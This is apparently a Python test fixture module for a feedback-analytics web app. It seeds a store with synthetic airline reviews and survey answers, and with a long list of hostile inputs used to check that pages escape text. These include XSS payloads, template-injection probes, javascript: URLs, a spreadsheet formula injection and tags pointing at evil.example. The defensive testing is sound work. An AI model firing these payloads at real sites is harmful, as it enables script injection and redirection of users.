"""A store like the demo's, small, with hostile texts among the feedback; served by the pages."""

import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import MappingProxyType
from typing import Any

from starlette.testclient import TestClient

from listening.app import App
from listening.protocols import Store
from listening.records import Feedback, Kind, Rating, Rejected, Scale, Sentiment
from listening.settings import Settings
from listening.stores.sqlite import SqliteStore
from listening.web.accounts import now
from listening.web.serve import Reach, guarded

START = datetime(2026, 9, 14, 8, tzinfo=UTC)
DAYS = 42
PAGES = (
    "/",
    "/mentions",
    "/topics",
    "/compare",
    "/surveys",
    "/alerts",
    "/alerts/rule",
    "/sources",
    "/model",
)
CALLS = (
    "/api/search",
    "/api/topics",
    "/api/compare",
    "/api/report",
    "/api/status",
    "/api/explain?q=crew",
    "/api/openapi.json",
)
OTHERS = ("/mentions.csv", "/health", "/static/style.css", "/static/icon.svg", "/static/script.js")
MOODS = {"negative": (0.8, 0.1, 0.1), "neutral": (0.1, 0.8, 0.1), "positive": (0.1, 0.1, 0.8)}
TALK = (
    ("en", "Boarding was quick, the crew was kind on flight {}.", "positive"),
    ("lv", "Bagāža pazuda, un reisā {} neviens neatbild.", "negative"),
    ("lt", "Kada atidaroma registracija į skrydį {}?", "neutral"),
    ("ka", "რეისი {} დაგვიანდა და ბარგი დაკარგეს.", "negative"),
    ("en", "My coffee on flight {} was cold.", "negative"),
    ("en-GB", "The queue at gate {} was no queue at all.", "neutral"),
)
SEGMENTS = ("business", "family")
SERVICES = ("flights", "baggage", "loyalty & lounges")

# Each would show itself: it sets document.title, alerts, or loads something from elsewhere.
_RUN = "document.title='pwned';alert(1)"
HOSTILE = (
    *(f"<script{gap}>{_RUN}</script>" for gap in ("", " ", "/x", "\t", " type=module")),
    *(f"</{tag}><script>{_RUN}</script>" for tag in ("p", "title", "style", "textarea", "svg")),
    *(f'<img src=x {on}="{_RUN}">' for on in ("onerror", "oNeRrOr", "onload", "onerror\n")),
    *(f'"><{tag} onload="{_RUN}">' for tag in ("svg", "body", "iframe", "embed", "object")),
    *(f"'><{tag} onfocus={_RUN} autofocus>" for tag in ("input", "select", "textarea", "button")),
    *(f'" {on}={_RUN} x="' for on in ("onmouseover", "onclick", "onpointerenter", "style")),
    *(f"<a href='{scheme}:{_RUN}'>x</a>" for scheme in ("javascript", "JaVaScRiPt", "vbscript")),
    *(f"<a href='{scheme}{_RUN}'>x</a>" for scheme in ("data:text/html,", "\x01javascript:")),
    *(f"{{{{ {code} }}}}" for code in ("7*7", "config", "''.__class__.__mro__", "cycler.__init__")),
    *(f"{{% {code} %}}" for code in ("raw", "include 'base.html'", "endblock")),
    *(f"<{tag}>{_RUN}</{tag}>" for tag in ("style", "math", "noscript", "template", "xmp")),
    f"<plaintext>{_RUN}",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>x</details>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><input name=q></form>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<mark></mark><mark>crew</mark><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>\u202c",
    "＜script＞alert(1)＜/script＞",
    "]]><script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "`${alert(1)}`",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '=HYPERLINK("//evil.example";"x")',
)  # fmt: skip
# Every way out of where a text may stand, with everything that might run there: above 500.
_OUT = ("", '"', "'", "`", '">', "'>", "-->", "]]>", "*/", "\\", "</p>", "</title>", "</textarea>")
_IN = (
    *(f"<{tag} {on}={_RUN}>" for tag in ("img src=x", "svg", "video src=x", "input autofocus")
      for on in ("onerror", "onload", "onfocus", "onpointerenter", "ontoggle", "onanimationstart")),
    *(f"<{tag}>{_RUN}</{tag}>" for tag in ("script", "sCrIpT", "svg><script", "style", "iframe")),
    *(f"<{tag} {to}=javascript:{_RUN}>x" for tag, to in (("a", "href"), ("form", "action"),
      ("button", "formaction"), ("iframe", "src"), ("object", "data"), ("embed", "src"))),
    f" onmouseover={_RUN} ", f"{{{{{_RUN}}}}}", f"${{{_RUN}}}", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=import href=//evil.example>",
)  # fmt: skip
MANY_HOSTILE = (*HOSTILE, *(out + within for out in _OUT for within in _IN))

URLS = (
    "https://example.org/post/1",
    "javascript:alert(1)",
    "data:text/html,<script>",
    " http://x y",
    "//evil.example",
    "HTTP://example.org/2",
)


@dataclass(frozen=True)
class Link:
    """A link of a page whose number says how many mentions it opens."""

    href: str
    count: int


def filled(path: Path) -> App:
    """An app over a store that is there and is not made or changed by it."""
    store = SqliteStore(str(path))
    fill(store)
    store.close()
    return over(str(path), path.parent)


def fill(store: Store) -> None:
    said = list(_feedback())
    store.put([one for one, _ in said])
    store.annotate([(o.id, o.text, Sentiment(*MOODS[mood], "m")) for o, mood in said if mood])
    aside = [Rejected(stream="s", origin="a", reason=text, raw=text) for text in HOSTILE[:9]]
    store.set_aside(aside)


def over(store: str, folder: Path) -> App:
    chosen = Settings(folder=folder, store=store, zone="Europe/Riga")
    return App(chosen, creates=False, environ=MappingProxyType({}))


def _feedback() -> Iterator[tuple[Feedback, str | None]]:
    number = 0
    for day in range(DAYS):
        for brand in ("Amberwing", 'Me"dus & Söhne'):
            for language, text, mood in TALK:
                number += 1
                moment = START + timedelta(days=day, minutes=17 * number % 1300)
                known = None if number % 17 == 0 else mood
                kind = Kind.REVIEW if number % 3 else Kind.MENTION
                about = {"brand": brand, "created_at": moment, "language": language}
                yield one(number, text.format(number), kind=kind, **about), known
            number += 1
            moment = START + timedelta(days=day, hours=number % 23)
            yield answer(number, brand, moment), None
    for place, text in enumerate(HOSTILE):
        number += 1
        moment = START + timedelta(days=place % DAYS, hours=15)
        more = {"url": URLS[place % len(URLS)], "segment": text[:40].strip() or None}
        spoken = f"crew {text}" if place % 2 else f"{text} crew"
        yield one(number, spoken, created_at=moment, **more), "neutral"


def one(number: int, text: str, **more: Any) -> Feedback:
    """One feedback; its source goes by its kind."""
    kind = more.setdefault("kind", Kind.MENTION)
    source = {Kind.MENTION: "x", Kind.REVIEW: "reviews", Kind.SURVEY: "survey"}[kind]
    values: dict[str, Any] = {"brand": "Amberwing", "language": "en", "created_at": START}
    values |= {"source": source, **more}
    id_ = f"{values['brand']}:{source}:{number}"
    return Feedback(id=id_, native_id=str(number), text=text, version=1, **values)


def answer(number, brand, moment) -> Feedback:
    ratings = (Rating(Scale.NPS, number % 11), Rating(Scale.CSAT, 1 + number % 5))
    more = {"ratings": ratings, "segment": SEGMENTS[number % 2], "service": SERVICES[number % 3]}
    return one(number, "", brand=brand, created_at=moment, kind=Kind.SURVEY, language="und", **more)


_LINK = re.compile(r'<a\b[^>]*?href="(/mentions[^"]*)"[^>]*>(.*?)</a>', re.DOTALL)
_SAID = (
    re.compile(r'class="count">([\d,]+)<'),
    re.compile(r"<title>[^<]*\(n = ([\d,]+)"),
    re.compile(r"<title>(?:[^<:]*: )?([\d,]+)"),
    re.compile(
        r"^\s*(?:<b>)?(?:n&nbsp;=&nbsp;)?([\d,]+)(?: (?:nega|posi)tive texts?)?(?:</b>)?\s*$"
    ),
)


def counted_links(html: str) -> list[Link]:
    """Links to mentions that say a number of them, in their text or their title."""
    return [
        Link(href.replace("&amp;", "&"), int(said[1].replace(",", "")))
        for href, inside in _LINK.findall(html)
        for said in [next(filter(None, (one.search(inside) for one in _SAID)), None)]
        if said
    ]


def client(app, host="127.0.0.1", clock=now, **more):
    return TestClient(
        guarded(app, Reach(host=host, **more), clock),
        base_url="http://localhost:8765",
        follow_redirects=False,
    )
